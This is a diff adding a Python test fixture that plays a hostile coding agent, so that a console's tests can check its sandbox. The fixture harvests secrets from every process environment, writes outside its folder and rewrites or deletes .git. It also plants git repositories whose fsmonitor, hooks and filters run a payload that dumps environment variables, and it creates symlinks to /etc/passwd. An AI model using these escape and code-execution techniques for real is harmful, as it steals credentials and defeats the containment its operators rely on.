@@ -1,0 +1,138 @@
+#!/usr/bin/env python3
+"""A hostile stand-in for the Claude Code CLI: it tries to escape before it answers.
+
+It takes the runner's argv as ``tests/fake_claude.py`` does, reads the prompt from stdin, then plays the
+escapes named (comma-separated) by HOSTILE_ACTS against the paths named by HOSTILE_TARGETS (a JSON
+object), and answers with the documented stream-json events: a ``system/init``, then a ``result`` whose
+``result`` is a JSON object of what each escape found (``{"act": "what happened"}``), so the test can
+read in the attempt's output what the agent could reach.
+"""
+
+import glob
+import json
+import os
+import subprocess
+import sys
+import textwrap
+
+
+def _try(action):
+    try:
+        return action()
+    except OSError as error:
+        return f"refused: {error.strerror}"
+
+
+def read_secrets(targets):
+    """Everything that looks like the console's secrets: its own environment and every process's."""
+    found = {name: value for name, value in os.environ.items()}
+    for path in glob.glob("/proc/[0-9]*/environ"):
+        text = _try(lambda path=path: open(path, "rb").read().decode(errors="replace"))
+        found[path] = text
+    return json.dumps(found)
+
+
+def read_file(targets):
+    return _try(lambda: open(targets["read"], encoding="utf-8", errors="replace").read())
+
+
+def list_folder(targets):
+    return _try(lambda: ", ".join(sorted(os.listdir(targets["list"]))))
+
+
+def write_outside(targets):
+    results = []
+    for folder in targets["write"]:
+        path = os.path.join(folder, "planted-by-agent")
+        results.append(_try(lambda path=path: open(path, "w").write("planted") and f"wrote {path}"))
+    return "; ".join(str(result) for result in results)
+
+
+def redirect_git(targets):
+    with open(".git", "w") as dot_git:
+        dot_git.write(f"gitdir: {targets['other_git_dir']}\n")
+    open("stolen.txt", "w").write("committed into another repository?")
+    return "rewrote .git"
+
+
+def delete_git(targets):
+    os.remove(".git")
+    open("orphan.txt", "w").write("committed into an enclosing repository?")
+    return "deleted .git"
+
+
+def plant_repository(targets):
+    """Replace .git with a repository of the agent's own whose configuration runs a program."""
+    os.remove(".git")
+    subprocess.run(["git", "init", "-q", "."], check=True)
+    script = os.path.abspath("payload.sh")
+    with open(script, "w") as payload:
+        payload.write(textwrap.dedent(f"""\
+            #!/bin/sh
+            env > {targets['marker']}
+            cat
+            """))
+    os.chmod(script, 0o755)
+    for key, value in (("core.fsmonitor", script), ("core.hooksPath", os.path.abspath(".")),
+                       ("filter.evil.clean", script), ("filter.evil.smudge", script)):
+        subprocess.run(["git", "config", key, value], check=True)
+    for hook in ("pre-commit", "post-commit"):
+        os.symlink(script, hook)
+    open(".gitattributes", "w").write("* filter=evil\n")
+    return "planted a repository"
+
+
+def plant_nested_repository(targets):
+    """Leave a repository of the agent's own in a subfolder, with a commit, whose configuration runs a
+    program: the console's git must treat it as content, never as configuration."""
+    os.mkdir("nested")
+    subprocess.run(["git", "init", "-q", "nested"], check=True)
+    script = os.path.abspath("nested/payload.sh")
+    with open(script, "w") as payload:
+        payload.write(f"#!/bin/sh\nenv > {targets['marker']}\ncat\n")
+    os.chmod(script, 0o755)
+    for key, value in (("core.fsmonitor", script), ("core.hooksPath", os.path.abspath("nested")),
+                       ("filter.evil.clean", script)):
+        subprocess.run(["git", "-C", "nested", "config", key, value], check=True)
+    open("nested/.gitattributes", "w").write("* filter=evil\n")
+    subprocess.run(["git", "-C", "nested", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q",
+                    "--allow-empty", "-m", "mine"], check=True)
+    open("ordinary.txt", "w").write("an ordinary change")
+    return "planted a nested repository"
+
+
+def escaping_symlinks(targets):
+    os.symlink("/etc/passwd", "passwd-link")
+    os.symlink("../../../..", "up")
+    os.symlink("sub/../inside.txt", "fine-link")
+    open("inside.txt", "w").write("a file")
+    return "linked"
+
+
+ACTS = {name: act for name, act in globals().items() if callable(act) and name in {
+    "read_secrets", "read_file", "list_folder", "write_outside", "redirect_git", "delete_git", "plant_repository",
+    "plant_nested_repository", "escaping_symlinks"}}
+
+
+def main():
+    args = sys.argv[1:]
+    if args[:1] != ["--agent"] or "-p" not in args:
+        sys.stderr.write(f"hostile claude: unexpected argv {args!r}\n")
+        return 2
+    sys.stdin.read()
+    targets = json.loads(os.environ.get("HOSTILE_TARGETS", "{}"))
+    found = {act: str(ACTS[act](targets)) for act in os.environ.get("HOSTILE_ACTS", "").split(",") if act}
+    session = "00000000-0000-4000-8000-00000000h0s7"
+    print(json.dumps({"type": "system", "subtype": "init", "session_id": session, "cwd": os.getcwd(),
+                      "tools": ["Bash", "Read", "Write"], "model": "claude-sonnet-4-5-20250929",
+                      "permissionMode": "auto", "mcp_servers": []}), flush=True)
+    print(json.dumps({"type": "result", "subtype": "success", "is_error": False, "duration_ms": 10,
+                      "duration_api_ms": 5, "num_turns": 1, "result": json.dumps(found), "session_id": session,
+                      "total_cost_usd": 0.001, "usage": {"input_tokens": 1, "output_tokens": 1,
+                                                         "cache_creation_input_tokens": 0,
+                                                         "cache_read_input_tokens": 0}}), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
